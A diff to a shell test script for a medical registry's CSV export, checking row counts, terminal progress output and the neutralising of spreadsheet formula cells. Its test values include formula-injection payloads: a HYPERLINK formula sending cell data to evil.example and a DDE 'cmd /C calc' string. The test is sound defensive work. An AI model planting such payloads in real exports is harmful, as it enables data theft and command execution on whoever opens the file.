@@ -161,7 +161,8 @@ as dr-a --json record show "$RA" > versions.json
 # extract keeps it as stored, --spreadsheet defangs it with a leading apostrophe.
 TF=$(as dr-a --json patient register --module hip --id family_name=Formel --id given_name=Eva \
   --id birth_date=1966-06-06 | jq -r '"\(.internal_id) \(.psn_token)"')
-for v in '=HYPERLINK(\"http://evil.example/?\"&A1,\"Corail\")' "+cmd|' /C calc'!A0" '-2+3' '@SUM(A1:A9)' 'Corail -5'; do
+for v in '=HYPERLINK(\"http://evil.example/?\"&A1,\"Corail\")' "+cmd|' /C calc'!A0" '-2+3' '@SUM(A1:A9)' 'Corail -5' \
+  'Corail\r\nrevision 2'; do
   as dr-a record add --module hip --internal-id "${TF% *}" --token "$(as dr-a --json patient register --module hip \
     --id family_name=Formel --id given_name=Eva --id birth_date=1966-06-06 | jq -r .psn_token)" \
     --data "{\"side\":\"left\",\"implant\":\"$v\",\"surgery_date\":\"2022-02-02\"}" >/dev/null \
@@ -169,6 +170,15 @@ for v in '=HYPERLINK(\"http://evil.example/?\"&A1,\"Corail\")' "+cmd|' /C calc'!
 done
 expect 0 "a third study" -- as admin study create --module hip --name study-3
 expect 0 "the exact extract" -- as researcher export --module hip --study study-3 -o exact.csv
+rows=$(python3 -c 'import csv,sys; print(len(list(csv.reader(open(sys.argv[1], newline="")))) - 1)' exact.csv)
+contains "$W/err" "wrote $rows rows" "the count of rows written is the CSV's, a value with a line break one row"
+# on a terminal, a line counts the rows as they come; not when the rows go to that terminal
+script -qec "'$MEDREG' --as pki/researcher export --module hip --study study-3 -o tty.csv" /dev/null > "$W/tty" \
+  && cmp -s tty.csv exact.csv && ok "an export to a file from a terminal writes the same extract" \
+  || fail "an export from a terminal: $(cat "$W/tty")"
+contains "$W/tty" "$rows rows, 0.0 MB" "and shows its rows and bytes on the terminal"
+script -qec "'$MEDREG' --as pki/researcher export --module hip --study study-3" /dev/null > "$W/tty"
+lacks "$W/tty" "rows, 0" "an export to the terminal itself shows no progress among its rows"
 expect 0 "the extract for spreadsheets" -- as researcher export --module hip --study study-3 --spreadsheet -o sheet.csv
 python3 - exact.csv sheet.csv <<'PY' && ok "exact keeps =,+,-,@ cells as stored; --spreadsheet puts an apostrophe before each, and only those" || fail "formula cells"
 import csv, sys
@@ -178,6 +188,7 @@ def implants(p):
 exact, sheet = implants(sys.argv[1]), implants(sys.argv[2])
 want = ['=HYPERLINK("http://evil.example/?"&A1,"Corail")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', 'Corail -5']
 assert all(w in exact for w in want), exact
+assert 'Corail\r\nrevision 2' in exact, exact
 assert len(exact) == len(sheet)
 for e in exact:
     s = "'" + e if e[:1] in "=+-@\t\r" else e
